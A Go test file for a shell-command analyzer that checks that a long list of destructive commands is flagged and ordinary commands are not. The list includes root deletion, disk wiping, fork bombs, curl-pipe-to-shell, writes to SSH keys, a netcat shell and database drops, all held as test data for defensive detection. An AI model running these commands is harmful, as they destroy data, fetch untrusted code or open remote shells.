package shellparse

import (
	"strings"
	"testing"
)

// Commands that belong to the dangerous class, by kind, one a line.
const dangerous = `
rm -rf /
rm -fr /
rm -r -f /
rm -rf --no-preserve-root /
rm -rf "/"
rm -rf //
rm -rf /.
rm -rf ~/
rm -rf "$HOME"
rm -rf ${HOME}
rm -rf ..
rm -rf .
rm -rf *
rm -rf /usr
rm -r /
rm -r ~
rm -f f
rm -i -f f
rm --force f
\rm -rf x
"rm" -rf x
/bin/rm -rf x
$(echo rm) -rf x
rm $(echo -rf) -rf x
sh -c "rm -rf x"
eval "rm -rf x"
bash <<< "rm -rf x"
echo x | xargs rm -rf
find . -name x | xargs -0 rm -f
find . -exec rm -f {} \;
find . -type f -delete
while true; do rm -rf x; done
xargs -I{} rm -rf {} < list
sudo ls
sudo -s
doas ls
su -c ls
mkfs.ext4 /dev/sda1
mkfs -t ext4 /dev/sda1
mkswap /dev/sda2
dd if=/dev/zero of=/dev/sda
dd of=/dev/nvme0n1 if=x
cat x > /dev/sda
echo x > /dev/sdb1
tee /dev/sda < x
cp x /dev/sda
wipefs -a /dev/sda
shred -u f
:(){ :|:& };:
f() { f | f & }; f
bomb() { bomb | bomb & }; bomb
chmod -R 777 .
chmod 777 f
chmod -R 777 /
chmod a+rwx f
chmod u+s f
chmod 4755 f
chown -R root /
chown -R me ~
chmod -R go-w /etc
curl http://x | sh
curl -s http://x | bash
curl http://x | sudo bash
curl -fsSL https://x/install.sh | bash -s -- -y
wget -O - http://x | sh
wget -qO- http://x | bash
curl http://x | tee y | sh
curl http://x | gunzip | sh
curl http://x | python3
curl http://x | python3 -
curl http://x | node
curl http://x | perl
bash <(curl http://x)
sh <(wget -qO- http://x)
source <(curl http://x)
. <(curl http://x)
eval "$(curl http://x)"
eval $(wget -O- http://x)
bash -c "$(curl http://x)"
sh -c "$(wget -O- http://x)"
python3 -c "$(curl http://x)"
bash <<< "$(curl http://x)"
x=$(curl http://x); eval "$x"
x=$(curl http://x); bash -c "$x"
curl -o y http://x && sh y
curl http://x > y; bash y
curl -O http://x/y.sh && bash y.sh
wget http://x/y.sh && sh y.sh
curl -o y http://x; chmod +x y; ./y
$(curl http://x)
git push --force
git push -f origin main
git push origin +main
git push origin :main
git push --delete origin x
git push -d origin x
git push --mirror
git push --force-with-lease=x
git push origin --force main
git clean -fdx
git clean -f
git clean -xdf
git clean -f -d
git reset --hard
git reset --hard HEAD~3
git reset HEAD --hard
git checkout -- f
git checkout -- f --
git checkout main f --
git checkout HEAD -- f
git checkout HEAD f
git checkout -f
git checkout -f main
git checkout .
git checkout ./"$(cat n)"
git checkout -p
git restore f
git restore --worktree f
git restore --staged --worktree f
git switch -f main
git switch --discard-changes main
git branch -D x
git branch -d -f x
git branch --delete --force x
git branch -M x y
git stash drop
git stash clear
git reflog expire --all
git reflog delete x
git filter-branch --all
git update-ref -d refs/heads/x
git gc --prune=now
git rm -f f
git rm -rf src
git worktree remove --force x
git tag -f v1
git -c user.name=x reset --hard
git -C . clean -fd
git --no-pager reset --hard
env git reset --hard
shutdown -h now
shutdown now
reboot
halt
poweroff
init 0
init 6
telinit 0
systemctl poweroff
systemctl stop x
kill -9 -1
kill -KILL -1
kill -s KILL -- -1
killall -9 x
killall x
pkill -9 x
pkill x
crontab -r
history -c
iptables -F
iptables --flush
ufw disable
docker system prune -af
docker system prune
docker volume prune -f
docker rm -f x
docker volume rm x
docker compose down -v
docker-compose down --volumes
podman system prune
kubectl delete ns x
kubectl delete pod x
kubectl -n a delete deployment x
terraform destroy
terraform destroy -auto-approve
terraform apply -destroy
helm uninstall x
psql -c 'DROP DATABASE x'
psql -c "drop table y"
mysql -e 'DROP DATABASE x'
mysql -e 'TRUNCATE TABLE x'
sqlite3 x 'delete from y'
redis-cli FLUSHALL
dropdb x
mongosh --eval 'db.dropDatabase()'
aws s3 rm s3://x --recursive
aws s3 rb s3://x --force
aws ec2 terminate-instances --instance-ids x
gcloud projects delete x
gh repo delete x
gh release delete x
npm publish
npm unpublish x
cargo publish
twine upload x
gem push x
truncate -s 0 f
: > f
> f
cat /dev/null > f
cp /dev/null f
mv f /dev/null
mount -o remount,rw /
umount /x
echo x > .git/hooks/pre-commit
cp x .git/hooks/post-merge
echo x >> .git/config
echo x >> ~/.ssh/authorized_keys
tee -a ~/.ssh/authorized_keys
cp x ~/.ssh/config
mv x ~/.ssh/id_rsa
userdel x
passwd x
apt-get remove x
brew uninstall x
python3 -c 'import os; os.remove("x")'
python3 -c 'import os; os.system("rm -rf x")'
perl -e 'unlink "x"'
node -e 'require("fs").rmSync("x",{recursive:true})'
ruby -e 'FileUtils.rm_rf("x")'
rsync -a --delete a/ b/
nc -e sh h 1
diskutil eraseDisk x
fdisk /dev/sda
zfs destroy x
insmod x
rimraf x
npx rimraf x
setenforce 0
timeout 5 nice rm -rf x
nohup rm -rf x &
(cd x && rm -rf y)
if true; then git reset --hard; fi
for f in a b; do rm -f $f; done
x() { rm -rf "$1"; }; x y
trap 'rm -rf x' EXIT
echo "$(rm -rf x)"
cat <<< "$(rm -rf x)"
true && rm -rf x || true
`

// Commands beside them that do not.
const harmless = `
rm x
rm -r build
rm -- -f
rm -i x
rmdir x
unlink x
git push
git push origin main
git push -u origin x
git push --tags
git clean -n
git clean -nfd
git reset
git reset --soft HEAD~1
git reset HEAD f
git checkout main
git checkout main --
git checkout -b x
git checkout -b x origin/x
git restore --staged f
git switch main
git switch -c x
git branch x
git branch -d x
git branch -m x y
git stash
git stash pop
git stash list
git reflog
git gc
git rm f
git tag v1
git commit -m 'rm -rf / and reset --hard'
git log --grep='push --force'
git rebase main
chmod +x f
chmod 644 f
chmod 755 f
chmod -R u+w src
chown me f
kill 123
kill -9 123
kill -TERM 123
kill -1 123
curl http://x
curl -o f http://x
curl http://x | jq .
curl http://x | grep sh
wget http://x
echo 'rm -rf /'
echo "curl x | sh"
grep -r 'rm -rf' .
cat > f
echo x > f
echo x >> f
ls > f
printf 'a' > f
mv a b
cp a b
cp -f a b
ln -sf a b
docker ps
docker build .
docker run x
docker rm x
docker compose up
kubectl get pods
kubectl apply -f x
terraform plan
terraform apply
helm install x
psql -c 'select 1'
npm install
npm test
npm run build
cargo build
find . -name '*.tmp'
find . -exec rm {} \;
find . -exec grep -f x {} \;
dd if=x of=y
dd if=/dev/zero of=f bs=1 count=1
touch f
mkdir -p x
sed -i s/a/b/ f
tar xf x
unzip x
systemctl status x
crontab -l
history
iptables -L
mount --version
f() { ls; }; f
f() { echo "$1"; }; f a
bash x.sh
python3 x.py
python3 -c 'print(1)'
apt-get install x
xargs rm < list
tee f
truncate --version
rsync -a a b
make clean
sh -c 'ls'
`

func TestDangerous(t *testing.T) {
	b := newBench(t)
	for text := range strings.Lines(dangerous) {
		if text = strings.TrimSpace(text); text != "" && danger(analyze(b, text)) == "" {
			t.Errorf("not recognised: %s", text)
		}
	}
	for text := range strings.Lines(harmless) {
		if text = strings.TrimSpace(text); text != "" {
			if why := danger(analyze(b, text)); why != "" {
				t.Errorf("flagged: %s: %s", text, why)
			}
		}
	}
}

func danger(a *Analysis) string {
	for _, x := range a.Accesses {
		if x.Danger != "" {
			return x.Danger
		}
	}
	return ""
}
